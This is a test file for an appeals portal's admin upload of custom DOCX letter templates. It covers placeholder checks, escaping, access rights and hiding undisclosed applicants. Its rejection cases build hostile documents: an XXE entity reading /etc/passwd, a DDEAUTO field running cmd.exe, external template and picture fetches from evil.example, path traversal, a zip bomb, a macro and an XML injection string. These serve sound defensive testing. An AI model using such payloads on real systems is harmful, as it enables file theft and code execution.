import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { docxText, docxWith } from "../../../test/support/docx.ts";
import { given } from "../../../test/support/given.ts";
import type { Answer, Portal } from "../../../test/support/people.ts";
import { openPortal } from "../../../test/support/portal.ts";
import { answeredAppeal, documentOf, type AnsweredAppeal } from "../../../test/support/answered-appeal.ts";

let portal: Portal;
let to: ReturnType<typeof given>;
let of: AnsweredAppeal;
beforeAll(async () => {
  portal = await openPortal();
  to = given(portal);
  of = await answeredAppeal(portal);
}, 60_000);
afterAll(() => portal.close());

/** As the portal's screen sends it: with the version that stands there. */
const withVersion = async (query: string): Promise<string> => {
  const asked = new URLSearchParams(query);
  const rows = (await (await portal.as("admin")).get("/admin/document-templates")).body as Record<
    "name" | "language" | "version",
    string
  >[];
  const row = rows.find(({ name, language }) => name === asked.get("name") && language === asked.get("language"));
  return `${query}&version=${row?.version ?? "none"}`;
};
const send = async (login: string, query: string, content: Buffer, name = "namuna.docx"): Promise<Answer> => {
  const form = new FormData();
  form.append("file", new Blob([new Uint8Array(content)]), name);
  const sent = new Response(form);
  const reply = await portal.app.inject({
    method: "POST",
    url: `/api/admin/document-templates?${await withVersion(query)}`,
    headers: { authorization: `Bearer ${(await portal.as(login)).token}`, "content-type": sent.headers.get("content-type")! },
    payload: Buffer.from(await sent.arrayBuffer()),
  });
  return { status: reply.statusCode, body: reply.json() };
};

describe("a template of the office's own", () => {
  const query = "name=answer-letter&language=UZ";
  const letter = () => `/tasks/generate-doc?taskId=${of.own}&type=answer-letter`;
  const builtIn = () => documentOf(portal, "admin", `/admin/document-templates/file?${query}`);
  const saying = async (words: string): Promise<Buffer> =>
    docxWith(await builtIn(), {
      "word/document.xml": (xml) => xml.replace("{signerPost}", `${words.replaceAll("&", "&amp;").replaceAll("<", "&lt;")}{signerPost}`),
    });
  const listed = async () =>
    to
      .ok(await (await portal.as("admin")).get("/admin/document-templates"))
      .find((t: { name: string; language: string }) => t.name === "answer-letter" && t.language === "UZ");

  it("replaces the built-in one in its language until it is removed", async () => {
    const admin = await portal.as("admin");
    const before = docxText(await documentOf(portal, "signer", letter()));

    const stored = await send("admin", query, await saying("Oʻz shaklimiz: {answerText} ({executor})"), "Bizning namuna.docx");

    expect(stored).toEqual({ status: 200, body: { fileName: "Bizning namuna.docx" } });
    expect(docxText(await documentOf(portal, "signer", letter()))).toContain("Oʻz shaklimiz: Сув берилди\nва кафолатланди (");
    expect(docxText(await documentOf(portal, "signer", `${letter()}&language=RU`))).not.toContain("shaklimiz");
    expect(await listed()).toMatchObject({ isReplaced: true, fileName: "Bizning namuna.docx", title: "Javob xati" });
    expect(docxText(await documentOf(portal, "admin", `/admin/document-templates/file?${query}`))).toContain("Oʻz shaklimiz: {answerText}");

    to.ok(await admin.delete(`/admin/document-templates?${await withVersion(query)}`));
    expect(docxText(await documentOf(portal, "signer", letter()))).toBe(before);
    expect(await listed()).toMatchObject({ isReplaced: false, fileName: null });
    const { rows } = await sql<{
      action: string;
    }>`select action from audit_log where target = 'document_templates:answer-letter/UZ' order by id`.execute(portal.db);
    expect(rows.map((row) => row.action)).toEqual(["POST /admin/document-templates", "DELETE /admin/document-templates"]);
  });

  it("keeps its own words in the letters in which the office wrote them, and is filled by the alphabet of the day", async () => {
    const admin = await portal.as("admin");
    to.ok(await send("admin", query, await saying("Oʻz shaklimiz: {salutation} {answerText}")));
    await sql`update answers set text = 'Yoʻl tuzatildi' where task_id = ${of.own}`.execute(portal.db);
    const write = async (since: string | null) =>
      to.ok(await admin.put("/admin/settings", { key: "alphabet", value: { since, screens: "1995" } }));
    await write(to.today);

    expect(docxText(await documentOf(portal, "signer", letter()))).toContain("Oʻz shaklimiz: Hurmatli Hulkar Öktamovna! Yöl tuzatildi");

    to.ok(await admin.delete(`/admin/document-templates?${await withVersion(query)}`));
    expect(docxText(await builtIn())).toContain("norozi bölsangiz, yuqori turuvçi organga");
    await write(null);
  });

  it("lists the placeholders", async () => {
    const all = to.ok(await (await portal.as("admin")).get("/admin/document-templates")) as { name: string; placeholders: string[] }[];

    // eleven documents in three languages
    expect(all).toHaveLength(39);
    expect(new Set(all.map(({ name }) => name)).size).toBe(13);
    expect(all.find((t) => t.name === "task-card")!.placeholders).toEqual(
      expect.arrayContaining(["requestNumber", "taskText", "answers.answerText", "files.fileName", "withFiles"]),
    );
  });

  it("with unknown names is refused with each of them, in words", async () => {
    const reply = await send(
      "admin",
      query,
      await saying("{answerText} {password} {#tasks}{token}{/tasks} {answerText.length} {constructor} {1+1} {@answerText}"),
    );

    expect(reply.status).toBe(422);
    expect(reply.body.details.map((d: { path: string }) => d.path).toSorted()).toEqual([
      "1+1",
      "@answerText",
      "answerText.length",
      "constructor",
      "password",
      "tasks",
      "tasks.token",
    ]);
    const one = await send("admin", query, await saying("{answerText} {password}"));
    expect([one.status, one.body.details.map((d: { path: string }) => d.path)]).toEqual([422, ["password"]]);
    expect(reply.body.details[0]).toMatchObject({ problem: "unknown_placeholder", message: "Andozada bunday toʻldiriladigan maydon yoʻq" });
    expect(await listed()).toMatchObject({ isReplaced: false });
  });

  it("receives values as text only: neither XML nor marks in them are read", async () => {
    const dangerous = 'x</w:t></w:r></w:p><w:p><w:r><w:t>INJECTED</w:t></w:r></w:p>{password}{#a}&"';
    await sql`update answers set text = ${dangerous} where task_id = ${of.own}`.execute(portal.db);

    const file = await documentOf(portal, "signer", letter());

    await sql`update answers set text = ${"Сув берилди\nва кафолатланди"} where task_id = ${of.own}`.execute(portal.db);
    expect(docxText(file)).toContain(dangerous);
  });

  it.each<[string, () => Promise<Buffer>, string]>([
    ["no archive", async () => Buffer.from("not a document"), "broken_template"],
    ["an archive of something else", async () => docxWith(await builtIn(), { "word/document.xml": undefined }), "broken_template"],
    ["an open part", () => saying("{#answerText} {answerText}"), "broken_template"],
    ["a half mark", () => saying("{answerText"), "broken_template"],
    ["a page that calls itself a text", async () => docxWith(await builtIn(), { "word/document.xml": "<html>" }), "broken_template"],
    ["an empty text", async () => docxWith(await builtIn(), { "word/document.xml": "" }), "broken_template"],
    [
      "a text that stops in its midst",
      async () => docxWith(await builtIn(), { "word/document.xml": (xml) => xml.slice(0, xml.lastIndexOf("</w:p>")) }),
      "broken_template",
    ],
    [
      "parts that end one another",
      async () => docxWith(await builtIn(), { "word/document.xml": (xml) => xml.replace("</w:r></w:p>", "</w:p></w:r>") }),
      "broken_template",
    ],
    ["styles that are no XML", async () => docxWith(await builtIn(), { "word/styles.xml": "<w:styles a=>b</w:styles" }), "broken_template"],
    ["no way to its text", async () => docxWith(await builtIn(), { "_rels/.rels": undefined }), "broken_template"],
    [
      "a text without a mark",
      async () => docxWith(await builtIn(), { "word/document.xml": (xml) => xml.replace(/\{[^}]*\}/g, "Salom") }),
      "no_placeholder",
    ],
    ["a path outside", async () => docxWith(await builtIn(), { "../../evil.xml": "<a/>" }), "broken_template"],
    ["a bomb", async () => docxWith(await builtIn(), { "word/media/a.xml": Buffer.alloc(40_000_000) }), "broken_template"],
    ["a macro", async () => docxWith(await builtIn(), { "word/vbaProject.bin": "x" }), "active_content"],
    ["an embedded object", async () => docxWith(await builtIn(), { "word/embeddings/a.xlsx": "x" }), "active_content"],
    [
      "an entity",
      async () =>
        docxWith(await builtIn(), {
          "word/document.xml": (xml) => xml.replace("?>", '?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        }),
      "active_content",
    ],
    [
      "a template fetched from elsewhere",
      async () =>
        docxWith(await builtIn(), {
          "word/_rels/settings.xml.rels":
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        }),
      "active_content",
    ],
    [
      "a field that runs a program, in pieces",
      async () =>
        docxWith(await builtIn(), {
          "word/document.xml": (xml) =>
            xml.replace(
              "<w:body>",
              '<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
            ),
        }),
      "active_content",
    ],
    [
      "a picture fetched from elsewhere",
      async () =>
        docxWith(await builtIn(), {
          "word/document.xml": (xml) =>
            xml.replace("<w:body>", '<w:body><w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/x&quot;"/></w:p>'),
        }),
      "active_content",
    ],
  ])("that is or holds %s is refused", async (_what, make, why) => {
    const reply = await send("admin", query, await make());

    expect([reply.status, reply.body.details]).toMatchObject([422, [{ path: "file", problem: why }]]);
    expect(await listed()).toMatchObject({ isReplaced: false });
  });

  it("of a resolution that names the applicant names nobody who asked not to be disclosed", async () => {
    const resolution = "name=resolution&language=UZ";
    const own = docxWith(await documentOf(portal, "admin", `/admin/document-templates/file?${resolution}`), {
      "word/document.xml": (xml) => xml.replace(/\{(\w+)\}/, "Arizachi: {applicantName}. {$1}"),
    });
    expect((await send("admin", resolution, await own)).status).toBe(200);
    const [registrator2, leader2] = [await portal.as("registrator2"), await portal.as("leader2")];
    const printed = async (isUndisclosed: boolean): Promise<string> => {
      const { id } = await to.registered({ isUndisclosed }, { lastName: "Yashirova" });
      const place = { appeal_id: id, position_levels_id: 1 };
      to.ok(await (await portal.as("registrator")).patch("/appeal-actions/send-to-classification", place));
      const leader = await portal.as("leader");
      const task = await to.draft(leader, id, { organizationsId: await to.organizationId("registrator2") });
      to.ok(await leader.patch("/appeal-actions/finish-classification-task", { appeal_id: id }));
      const post = await to.postOf("mrg-leader-2");
      await to.act(registrator2, "register", task.id, { incomingNumber: "9", incomingDate: to.today, positionLevelsId: post });
      await to.act(leader2, "resolution", task.id, { executorId: await to.userId("executor2"), text: "Koʻrib chiqing" });
      return docxText(await documentOf(portal, "executor2", `/tasks/generate-doc?taskId=${task.id}&type=resolution`));
    };

    expect(await printed(false)).toContain("Arizachi: Yashirova");
    expect(await printed(true)).toContain("Arizachi: Oshkor etilmaydi");
    to.ok(await (await portal.as("admin")).delete(`/admin/document-templates?${await withVersion(resolution)}`));
  });

  it("is shown to its administrator only, who alone replaces it", async () => {
    for (const login of ["leader", "registrator", "supervisor"]) {
      const person = await portal.as(login);
      expect((await person.get("/admin/document-templates")).status, login).toBe(403);
      expect((await person.get(`/admin/document-templates/file?${query}`)).status, login).toBe(403);
      expect((await person.delete(`/admin/document-templates?${query}`)).status, login).toBe(403);
      expect((await send(login, query, Buffer.from("x"))).status, login).toBe(403);
    }
  });

  it.each(["name=answer-letter", "name=../x&language=UZ", "name=answer-letter&language=EN", "name=answer-letter&language=UZ&x=1"])(
    "%s has no placeholder",
    async (wrong) => {
      expect((await send("admin", wrong, await builtIn())).status).toBe(400);
      expect((await (await portal.as("admin")).delete(`/admin/document-templates?${wrong}`)).status).toBe(400);
    },
  );
});
